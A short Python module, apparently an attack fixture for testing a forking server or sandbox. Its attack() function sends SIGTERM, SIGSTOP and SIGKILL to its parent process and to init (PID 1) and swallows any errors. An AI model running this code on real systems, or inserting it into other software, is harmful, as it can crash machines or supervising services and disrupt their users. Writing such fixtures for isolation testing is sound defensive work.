"""Kills its parent and its init."""

import os
import signal
import time


def attack():
    for pid in {os.getppid(), 1} - {0}:  # 0 would be its own group
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    time.sleep(0.05)
    return None  # a zygote that was hit answers no more
